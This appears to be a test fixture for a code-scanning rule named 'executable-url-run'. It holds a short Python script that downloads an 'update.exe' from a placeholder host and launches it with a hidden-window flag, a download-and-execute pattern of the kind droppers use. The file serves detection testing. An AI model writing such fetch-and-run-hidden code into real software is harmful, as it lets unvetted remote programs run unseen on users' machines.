import os
import subprocess
import tempfile

import requests

# ruleid: executable-url-run
URL = "https://example.invalid/files/update.exe"


def download(url, path):
    with open(path, "wb") as fh:
        fh.write(requests.get(url).content)


def launch(path):
    subprocess.Popen([path], creationflags=0x08000000)


def main():
    path = os.path.join(tempfile.gettempdir(), "update.exe")
    download(URL, path)
    launch(path)
